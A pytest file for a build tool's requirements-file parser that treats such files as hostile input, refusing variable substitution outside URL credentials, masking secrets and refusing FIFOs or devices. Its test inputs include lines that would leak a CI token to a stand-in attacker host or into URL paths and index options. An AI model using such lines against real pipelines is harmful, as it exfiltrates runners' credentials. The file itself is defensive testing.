"""A requirements file is hostile input: `${VAR}` is substituted only in a URL's credentials,
an environment file given as `-r` is never quoted, and a FIFO or a device is refused without
waiting on it."""

from __future__ import annotations

import contextlib
import os
import socket
import threading
from collections.abc import Callable
from pathlib import Path

import pytest

from builder.config import load_config
from builder.errors import UserError
from builder.reporter import mask
from builder.resolve.requirements import (
    TOKEN_LIKE,
    check_override_file,
    check_regular,
    read_requirements,
)

SECRET = "s3cr3t-Tok3n-0f-the-runner"


def _refusal(path: Path, text: str) -> str:
    path.write_text(text)
    with pytest.raises(UserError) as caught:
        read_requirements([path])
    return str(caught.value)


@pytest.fixture(autouse=True)
def _runner_secret(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RUNNER_TOKEN", SECRET)


@pytest.mark.parametrize(
    "line",
    [
        "./${RUNNER_TOKEN}/acme-1.0-py3-none-any.whl",  # a path
        "acme @ file:///srv/${RUNNER_TOKEN}/acme-1.0-py3-none-any.whl",
        "acme @ https://${RUNNER_TOKEN}.attacker.example/acme-1.0-py3-none-any.whl",  # a host
        "acme @ https://files.example/${RUNNER_TOKEN}/acme-1.0-py3-none-any.whl",  # a path
        "acme @ https://files.example/acme-1.0-py3-none-any.whl?t=${RUNNER_TOKEN}",
        "https://${RUNNER_TOKEN}@host.example/${RUNNER_TOKEN}.whl",  # userinfo, and a path too
        "acme==${RUNNER_TOKEN}",  # a version
        "-r ${RUNNER_TOKEN}.txt",
        "-c ./${RUNNER_TOKEN}",
        "--index-url https://${RUNNER_TOKEN}.example/simple",
        "--extra-index-url https://pypi.example/${RUNNER_TOKEN}/simple",
        "--find-links ${RUNNER_TOKEN}",
        "--find-links https://ci:x@files.example/${RUNNER_TOKEN}/",
    ],
)
def test_a_variable_outside_a_urls_credentials_is_refused_by_name(
    tmp_path: Path, line: str
) -> None:
    message = _refusal(tmp_path / "r.txt", f"requests\n{line}\n")
    assert message.startswith(f"{tmp_path / 'r.txt'}:2: ${{RUNNER_TOKEN}} is substituted only in")
    assert "user:password@" in message
    assert SECRET not in message


def test_a_variable_in_a_urls_credentials_is_substituted_and_remembered(tmp_path: Path) -> None:
    top = tmp_path / "r.txt"
    top.write_text(
        "--extra-index-url https://ci:${RUNNER_TOKEN}@pypi.example/simple\n"
        "acme @ https://${RUNNER_TOKEN}@files.example/acme-1.0-py3-none-any.whl\n"
    )
    read = read_requirements([top])
    assert read.extra_index_urls == (f"https://ci:{SECRET}@pypi.example/simple",)
    (acme,) = read.direct()
    assert acme.direct is not None
    assert acme.direct.target == f"https://{SECRET}@files.example/acme-1.0-py3-none-any.whl"
    assert mask(f"uv said: {SECRET}") == "uv said: ***"


def test_a_password_written_in_a_url_is_remembered(tmp_path: Path) -> None:
    top = tmp_path / "r.txt"
    top.write_text("--index-url https://ci:written-in-the-file@pypi.example/simple\nrequests\n")
    read_requirements([top])
    assert mask("answer for written-in-the-file") == "answer for ***"


@pytest.mark.parametrize(
    "line",
    [
        f"AWS_SECRET_ACCESS_KEY=wJalr/{SECRET}",
        f"export GITHUB_TOKEN={SECRET}",
        f"TOKEN = {SECRET}/x",
    ],
)
def test_an_environment_files_line_is_not_quoted(tmp_path: Path, line: str) -> None:
    """`-r .env` or `-r secret.env`: one line naming the file and line, no value."""
    secrets = tmp_path / "secret.env"
    message = _refusal(secrets, f"{line}\n")
    assert message == f"{secrets}:1: not a requirement line (it looks like a NAME=value setting)"


@pytest.mark.parametrize(
    "line",
    [
        "ghp_Xk29fLq0ZpW8vR4tY7uN1mB6cD3eH5gJ0aQ2",
        "AKIAIOSFODNN7EXAMPLE",
        "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b",
    ],
)
def test_a_token_alone_on_a_line_is_neither_quoted_nor_taken_for_a_name(
    tmp_path: Path, line: str
) -> None:
    """It would be asked of the index as a project, and named in "no such distribution"."""
    message = _refusal(tmp_path / "token.txt", f"{line}\n")
    said = "not a requirement line (it looks like a token, not a name)"
    assert message == f"{tmp_path / 'token.txt'}:1: {said}"


def test_long_names_of_real_distributions_are_names() -> None:
    for name in (
        "opentelemetry-instrumentation-asgi",
        "PyQt5-Qt5",
        "types-aiobotocore-s3",
        "pyobjc-framework-CoreBluetooth",
        "nvidia-cusparselt-cu12",
        "backports.zoneinfo",
        "sphinxcontrib-applehelp",
        "backports-datetime-fromisoformat",
        "zope.interface",
    ):
        assert not TOKEN_LIKE.search(name), name


@pytest.mark.parametrize(
    "line",
    ["ci:Passw0rd@host.example/acme-1.0-py3-none-any.whl", f"./vendor/{SECRET}-token.whl"],
)
def test_a_line_that_is_no_requirement_is_quoted_masked(tmp_path: Path, line: str) -> None:
    message = _refusal(tmp_path / "r.txt", f"{line}\n")
    assert message.startswith(f"{tmp_path / 'r.txt'}:1: ")
    assert "Passw0rd" not in message
    assert SECRET not in message


def _refused_at_once(call: Callable[[], object], fifo: Path) -> str:
    """The UserError `call` raises, from a thread given 10 s: a read that blocks on `fifo`
    fails the test instead of hanging it (the FIFO is then opened for writing and closed, which
    ends the read)."""
    found: list[str] = []

    def run() -> None:
        try:
            call()
        except UserError as error:
            found.append(str(error))

    worker = threading.Thread(target=run, daemon=True)
    worker.start()
    worker.join(timeout=10)
    if blocked := worker.is_alive():
        with contextlib.suppress(OSError):
            os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
    assert not blocked, "reading a FIFO blocked"
    assert len(found) == 1, "no UserError raised"
    return found[0]


def test_a_fifo_given_as_a_requirements_file_is_refused_without_waiting(tmp_path: Path) -> None:
    fifo = tmp_path / "requirements.txt"
    os.mkfifo(fifo)
    said = _refused_at_once(lambda: read_requirements([fifo]), fifo)
    assert said == f"{fifo}: a FIFO, not a requirements file (only a regular file is read)"


def test_a_nested_fifo_a_device_a_socket_and_a_directory_are_refused(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "more.txt")
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(str(tmp_path / "s.sock"))
        for target, kind in [
            ("more.txt", "a FIFO"),
            ("/dev/zero", "a character device"),
            ("s.sock", "a socket"),
            (".", "a directory"),
        ]:
            (tmp_path / "r.txt").write_text(f"requests\n-r {target}\n")
            message = _refused_at_once(
                lambda: read_requirements([tmp_path / "r.txt"]), tmp_path / "more.txt"
            )
            said = f": {kind}, not a requirements file (only a regular file is read)"
            assert message.endswith(said)


def test_a_regular_file_passes_the_check(tmp_path: Path) -> None:
    (tmp_path / "o.txt").write_text("x\n")
    check_regular(tmp_path / "o.txt", "uv override file")
    os.mkfifo(tmp_path / "fifo")
    with pytest.raises(UserError, match="fifo: a FIFO, not a uv override file"):
        check_regular(tmp_path / "fifo", "uv override file")


def test_a_fifo_as_the_config_or_named_by_it_is_refused_without_waiting(tmp_path: Path) -> None:
    """`--config` and the requirement files a config names pass the same check."""
    os.mkfifo(tmp_path / "config.toml")
    said = _refused_at_once(lambda: load_config(tmp_path / "config.toml"), tmp_path / "config.toml")
    assert said.endswith("config.toml: a FIFO, not a pipeline config (only a regular file is read)")
    config = tmp_path / "bsi.toml"
    config.write_text(
        'requirements = ["r.fifo"]\nbase-repository = "reg.example/rt"\nplatform-version = "1"\n'
    )
    os.mkfifo(tmp_path / "r.fifo")
    said = _refused_at_once(
        lambda: read_requirements(load_config(config).requirements), tmp_path / "r.fifo"
    )
    assert said.endswith("r.fifo: a FIFO, not a requirements file (only a regular file is read)")


def test_a_variable_in_an_override_file_is_refused_by_name(tmp_path: Path) -> None:
    """uv reads an override file itself and would substitute the variable anywhere (a path, a
    host) and print it unmasked: refused before uv runs, the name said, never the value."""
    path = tmp_path / "o.txt"
    path.write_text("bsi-a==1.0\nbsi-b @ https://host.example/${CI_RUNNER_KEY}/b.whl\n")
    with pytest.raises(UserError) as refused:
        check_override_file(path)
    assert str(refused.value) == (
        f"{path}:2: ${{CI_RUNNER_KEY}} is not substituted in an override file"
        " (give credentials in a requirements file's URL)"
    )
    path.write_text("bsi-a==1.0\nbsi-c ; python_version < '0'\n")
    check_override_file(path)  # an ordinary override passes
